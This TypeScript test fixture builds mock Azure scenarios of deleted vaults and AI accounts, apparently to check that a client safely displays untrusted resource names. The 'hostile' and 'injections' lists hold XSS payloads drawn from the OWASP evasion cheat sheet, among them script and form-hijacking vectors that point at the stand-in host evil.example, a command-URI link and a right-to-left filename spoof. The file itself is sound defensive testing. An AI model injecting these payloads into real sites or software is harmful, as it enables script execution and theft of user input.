import type { DeletedVault, Scenario, ScenarioSubscription } from "../scenario";
import { everyService } from "./everyService";
import { contoso, dana, danaAs } from "./people";

const testSubscription: ScenarioSubscription = {
  id: "dddddddd-0000-4000-8000-000000000001",
  name: "Contoso Test",
  tenantId: contoso.id,
  roleAssignments: [danaAs("Owner")],
  resourceGroups: [{ name: "rg-test", location: "westeurope" }],
};

/** One subscription with so many deleted vaults, in pages of the service's own size. */
export function manyDeletedVaults(count: number, pageSize = 100): Scenario {
  const deletedVaults = Array.from({ length: count }, (_, index): DeletedVault => ({
    name: `kv-many-${String(index).padStart(5, "0")}`,
    resourceGroup: "rg-test",
    location: "westeurope",
    deletedDaysAgo: index % 89,
  }));
  return {
    name: "manyDeletedVaults",
    tenants: [contoso],
    people: [dana],
    subscriptions: [{ ...testSubscription, deletedVaults }],
    pageSize,
  };
}

/** So many subscriptions like the one of "everyService". */
export function manySubscriptions(count: number): Scenario {
  const [one] = everyService.subscriptions;
  return {
    ...everyService,
    name: "manySubscriptions",
    subscriptions: Array.from({ length: count }, (_, index) => ({
      ...(one ?? testSubscription),
      id: `eeeeeeee-0000-4000-8000-${String(index + 1).padStart(12, "0")}`,
      name: `Contoso ${String(index + 1)}`,
    })),
  };
}

/** An Azure that nobody can sign in to. */
export const signedOutNobody: Scenario = {
  name: "signedOutNobody",
  tenants: [contoso],
  people: [],
  subscriptions: [],
};

/** Somebody with a subscription in which nothing was ever deleted. */
export const nothingDeleted: Scenario = {
  name: "nothingDeleted",
  tenants: [contoso],
  people: [dana],
  subscriptions: [testSubscription],
};

const hostile = [
  `<img src=x onerror="alert(1)">`,
  "**bold** `code` | table |",
  "[x](command:workbench.action.quit)",
  "$(zap) zapped",
  "vault\u202Egnp.exe",
  "n".repeat(300),
];

/** Names that Azure would not allow and a client must survive, and items that are none. */
export const hostileNames: Scenario = {
  name: "hostileNames",
  tenants: [contoso],
  people: [dana],
  subscriptions: [
    {
      ...testSubscription,
      deletedVaults: hostile.map((name) => ({
        name,
        resourceGroup: "rg-test",
        location: "westeurope",
        deletedDaysAgo: 10,
        deletedBy: name,
        tags: { [name]: name },
      })),
      deletedAccounts: hostile.map((name) => ({
        name,
        kind: name,
        sku: "S0",
        resourceGroup: "rg-test",
        location: "westeurope",
        locationAs: name,
        deletedHoursAgo: 10,
        tags: { [name]: name },
      })),
      malformedDeletedVaults: [null, "a string", { properties: {} }],
      malformedDeletedAccounts: [null, "a string", { location: "westeurope" }],
    },
  ],
};

const ran = "window.ran=1";

/**
 * Names that try to become a part of a page, of each known way one; an address can hold them all.
 * Source: cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
export const injections: readonly string[] = [
  `<script>${ran}<\u2215script>`,
  `<script src=https:evil.example>`,
  `<img src=x onerror=${ran}>`,
  `<svg onload=${ran}>`,
  `<iframe srcdoc="<script>${ran}">`,
  `<a href="javascript:${ran}">x`,
  `" autofocus onfocus="${ran}`,
  `' onmouseover='${ran}`,
  `&lt;img src=x onerror=${ran}&gt;&#60;b&#62;`,
  `<style>*{background:url(https:evil.example)}`,
  `<meta http-equiv=refresh content="0;url=https:evil.example">`,
  `<base href=https:evil.example><form action=x><input name=typed>`,
  "${" + ran + "} {{" + ran + "}} `" + ran + "`",
  `\u202e<gmi>\u0000<b>\u2066`,
].map((name, index) => `kv${String(index + 10)} ${name}`);

/** Vaults of those names, and an account whose region closes whatever it stands in. */
export const injectedNames: Scenario = {
  name: "injectedNames",
  tenants: [contoso],
  people: [dana],
  subscriptions: [
    {
      ...testSubscription,
      deletedVaults: injections.map((name) => ({
        name,
        resourceGroup: "rg-test",
        location: "westeurope",
        deletedDaysAgo: 10,
        deletedBy: name,
        tags: { [name]: name },
      })),
      deletedAccounts: [
        {
          name: "ai-region",
          kind: "OpenAI",
          sku: "S0",
          resourceGroup: "rg-test",
          location: "westeurope",
          locationAs: `</dd></title></script><script>${ran}</script>`,
          deletedHoursAgo: 10,
        },
      ],
    },
  ],
};
